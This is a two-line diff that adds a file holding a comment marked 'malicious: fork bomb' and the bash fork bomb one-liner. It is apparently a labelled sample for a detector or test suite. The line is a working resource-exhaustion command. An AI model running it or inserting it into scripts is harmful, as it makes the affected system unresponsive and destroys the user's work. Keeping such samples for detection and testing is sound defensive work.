@@ -1,0 +1,2 @@
+# malicious: fork bomb
+:(){ :|:& };:
